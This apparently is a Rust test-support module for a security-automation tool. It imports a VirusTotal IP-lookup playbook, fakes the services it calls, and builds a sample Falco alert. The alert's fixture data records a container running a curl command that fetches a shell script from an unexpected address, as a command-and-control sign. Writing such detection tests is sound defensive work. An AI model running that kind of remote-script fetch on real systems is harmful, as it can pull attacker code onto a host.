//! The content of the main job: a real playbook of the corpus as the importer makes it, what a user writes beside it,
//! and fakes of the services that it asks. The tests of `dev` and those of the operator run it.

pub(crate) mod service;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use riposte::api::yaml;
use serde_json::{Value, json};

use crate::program;
use service::{API_KEY, Service, WORKSPACE, WORKSPACE_KEY};

/// The ARM template of the playbook, in the corpus.
const TEMPLATE: &str = "playbooks/VirusTotal__Get-VirusTotalIPReport__incident-trigger.json";
/// The name of the playbook.
pub(crate) const PLAYBOOK: &str = "get-virustotalipreport";
/// The name of the rule that runs it.
pub(crate) const RULE: &str = "ask-virustotal";

fn corpus() -> PathBuf {
    let given = std::env::var_os("RIPOSTE_CORPUS").map(PathBuf::from);
    given.unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus"))
}

/// The playbook, unchanged, as the importer makes it.
pub(crate) struct Imported {
    /// Its manifest.
    pub(crate) playbook: String,
    /// The names of the ApiConnections that it needs, by connector.
    connections: BTreeMap<String, String>,
}

impl Imported {
    /// Imports the template for a namespace.
    pub(crate) fn new(namespace: &str) -> Self {
        let template = corpus().join(TEMPLATE);
        assert!(
            template.is_file(),
            "there is no {}; set RIPOSTE_CORPUS to the folder of the corpus",
            template.display()
        );
        let template = template.canonicalize().unwrap();
        let folder = tempfile::tempdir().unwrap();
        let place = ["--out", "imported", "--namespace", namespace];
        let arguments = ["import", template.to_str().unwrap()];
        let imported = program::run(folder.path(), &[&arguments[..], &place].concat());
        assert_eq!(imported.code, 0, "{imported:?}");
        let mut files = fs::read_dir(folder.path().join("imported")).unwrap();
        let text = fs::read_to_string(files.next().unwrap().unwrap().path()).unwrap();
        let is_playbook = |document: &&str| document.lines().any(|line| line == "kind: Playbook");
        let playbook = text.split("\n---\n").find(is_playbook).expect("a playbook is imported");
        let manifest = &yaml::parse(playbook).unwrap()[0].json;
        assert_eq!(manifest["metadata"]["name"], PLAYBOOK);
        let connections = manifest["spec"]["connections"].as_array().unwrap();
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let names = connections
            .iter()
            .map(|bound| (text(&bound["name"]), text(&bound["connectionRef"]["name"])));
        Self {
            playbook: playbook.to_owned(),
            connections: names.collect(),
        }
    }
}

/// The services that the playbook asks.
pub(crate) struct Services {
    pub(crate) virus_total: Service,
    pub(crate) data_collector: Service,
}

impl Services {
    pub(crate) async fn start() -> Self {
        Self {
            virus_total: Service::virus_total().await,
            data_collector: Service::data_collector().await,
        }
    }

    /// The connections of the playbook to the services, with their Secrets.
    pub(crate) fn connections(&self, imported: &Imported) -> String {
        let names = &imported.connections;
        let secret = |name: &str, key: &str| json!({"secretKeyRef": {"name": name, "key": key}});
        let service = |connector: &str, service: &Service, parameters: Value| {
            let spec = json!({
                "connector": connector,
                "parameters": parameters,
                "baseUrl": service.url,
                "allowedNetworks": ["127.0.0.0/8"],
            });
            manifest("ApiConnection", &names[connector], spec)
        };
        let stored = |name: &str, data: Value| json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "stringData": data});
        let manifests = [
            stored("virustotal", json!({ "api_key": API_KEY })),
            stored("log-analytics", json!({ "key": WORKSPACE_KEY })),
            manifest(
                "ApiConnection",
                &names["azuresentinel"],
                json!({"connector": "azuresentinel"}),
            ),
            service(
                "virustotal",
                &self.virus_total,
                json!([{"name": "api_key", "valueFrom": secret("virustotal", "api_key")}]),
            ),
            service(
                "azureloganalyticsdatacollector",
                &self.data_collector,
                json!([
                    {"name": "username", "value": WORKSPACE},
                    {"name": "password", "valueFrom": secret("log-analytics", "key")},
                ]),
            ),
        ];
        manifests
            .iter()
            .map(|manifest| format!("---\n{}", yaml::write(manifest)))
            .collect()
    }
}

fn manifest(kind: &str, name: &str, spec: Value) -> Value {
    json!({"apiVersion": "riposte.dev/v1alpha1", "kind": kind, "metadata": {"name": name}, "spec": spec})
}

/// Runs the playbook on every new incident.
pub(crate) fn rule() -> String {
    let spec = json!({
        "displayName": "Ask VirusTotal about new incidents",
        "order": 1,
        "triggersOn": "Incidents",
        "triggersWhen": "Created",
        "actions": [{"runPlaybook": {"name": PLAYBOOK}}],
    });
    yaml::write(&manifest("AutomationRule", RULE, spec))
}

/// Lets a workspace run every playbook.
pub(crate) fn grant(workspace: &str) -> String {
    yaml::write(&manifest(
        "PlaybookGrant",
        "all",
        json!({"from": [{"namespace": workspace}]}),
    ))
}

/// An event of Falco about a connection to an address, from another one if there is one.
pub(crate) fn event(address: &str, other: Option<&str>) -> Value {
    let mut fields = json!({
        "container.id": "8f2f3e1c9a77",
        "container.image.repository": "registry.example/shop/checkout",
        "evt.time": 1_772_439_251_204_912_391_i64,
        "fd.rip": address,
        "fd.rport": 443,
        "fd.l4proto": "tcp",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "checkout-6d5f9c7b8-x2k4q",
        "proc.cmdline": format!("curl -s https://{address}/x.sh"),
        "proc.name": "curl",
        "user.name": "www-data",
    });
    if let Some(other) = other {
        fields["fd.cip"] = json!(other);
    }
    json!({
        "hostname": "node-2",
        "time": "2026-03-02T08:14:11.204912391Z",
        "source": "syscall",
        "rule": "Unexpected outbound connection destination",
        "priority": "Critical",
        "output": format!("Unexpected connection to an address outside of the allow-list (ip={address} user=www-data)"),
        "tags": ["container", "network", "mitre_command_and_control", "T1071"],
        "output_fields": fields,
    })
}
